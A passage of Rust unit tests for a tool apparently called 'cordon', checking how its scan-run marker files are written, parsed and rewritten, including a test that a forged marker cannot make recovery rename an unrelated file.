        let stores = [
            MissingPlace::recorded(
                "/h".into(),
                "/h/.config/cordon".into(),
                vec![(1, 2), (3, 4)],
            ),
            MissingPlace::recorded("/w x".into(), "/w x/c".into(), vec![]),
        ];
        let text = marker_text(
            &["/h".into()],
            t,
            "running",
            &stores,
            Some(Path::new("/s/audit.jsonl")),
        );
        let said = parse_marker(&text).expect("a marker");
        assert_eq!(said.started, t);
        assert_eq!(said.state, "running");
        assert_eq!(said.roots, vec![PathBuf::from("/h")]);
        assert_eq!(said.log.as_deref(), Some(Path::new("/s/audit.jsonl")));
        let parts: Vec<_> = said
            .stores
            .iter()
            .map(|s| format!("{:?}", s.parts()))
            .collect();
        let want: Vec<_> = stores.iter().map(|s| format!("{:?}", s.parts())).collect();
        assert_eq!(parts, want);
        // A marker of the earlier format (no log, no stores) still reads.
        let old = marker_text(&["/h".into()], t, "incomplete", &[], None);
        let said = parse_marker(&old).expect("a marker");
        assert!(said.stores.is_empty() && said.log.is_none());
        assert!(parse_marker(&text.replace("store ", "stor ")).is_none());
    }

    /// A marker is cordon's only where it lies, but its `store` lines make cordon rename what
    /// it finds: one that names anything but a default trust-store place of this environment
    /// (a forged marker, a file the command could have left) moves nothing.
    #[test]
    fn a_marker_naming_another_place_moves_nothing() {
        let d = tempfile::tempdir().unwrap();
        let base = d.path().canonicalize().unwrap();
        for p in ["ws", "state/scans"] {
            std::fs::create_dir_all(base.join(p)).unwrap();
        }
        let victim = base.join("ws/victim");
        std::fs::write(&victim, "mine").unwrap();
        let log = base.join("state/audit.jsonl");
        let t = std::time::SystemTime::now();
        let forged = marker_text(
            &[],
            t,
            "running",
            &[MissingPlace::recorded(base.clone(), victim.clone(), vec![])],
            Some(&log),
        );
        std::fs::write(base.join("state/scans/run-forged"), forged).unwrap();
        recover(
            &base.join("state/scans"),
            &[base.join("ws")],
            &log,
            "s",
            false,
        )
        .unwrap();
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "mine");
        assert!(!base.join("ws/.victim.cordon-quarantine").exists());
    }

    /// What a run kept after its marker's text ([`Pending::keep`]) reads back whole, whatever
    /// bytes it holds (a line `kept`, newlines, anything), and stays when the marker is
    /// rewritten with its trust-store part done (a later gate's [`before_discovery`] does
    /// that before the next run over its roots, which restores from it).
    #[test]
    fn a_markers_kept_part_reads_back_and_survives_its_rewrite() {
        let d = tempfile::tempdir().unwrap();
        let dir = d.path().join("scans");
        std::fs::create_dir(&dir).unwrap();
        let t = std::time::UNIX_EPOCH + std::time::Duration::new(1_700_000_000, 42);
        let stores = [MissingPlace::recorded(
            "/h".into(),
            "/h/.config/cordon".into(),
            vec![],
        )];
        let text = marker_text(&["/h".into()], t, "running", &stores, None);
        let kept: Vec<u8> = (0..=255u8).chain(*b"\nkept\nstate x\n").collect();
        let mut bytes = text.into_bytes();
        bytes.extend_from_slice(KEPT_LINE);
        bytes.extend_from_slice(&kept);
        std::fs::write(dir.join("run-1-0-0"), &bytes).unwrap();
        let dead = dead_markers(&dir);
        assert_eq!(dead.len(), 1);
        let said = dead[0].parsed().unwrap();
        assert_eq!((said.kept.as_slice(), said.stores.len()), (&kept[..], 1));
        let text = marker_text(&said.roots, said.started, &said.state, &[], None);
        dead[0].rewrite(&text, &said.kept).unwrap();
        drop(dead);
        let dead = dead_markers(&dir);
        let again = dead[0].parsed().unwrap();
        assert!(again.stores.is_empty());
        assert_eq!((again.kept, again.started), (kept, t));
        // A marker with nothing kept reads as before.
        std::fs::write(
            dir.join("run-1-0-0"),
            marker_text(&["/h".into()], t, "running", &[], None),
        )
        .unwrap();
        drop(dead);
        assert!(dead_markers(&dir)[0].parsed().unwrap().kept.is_empty());
    }
}
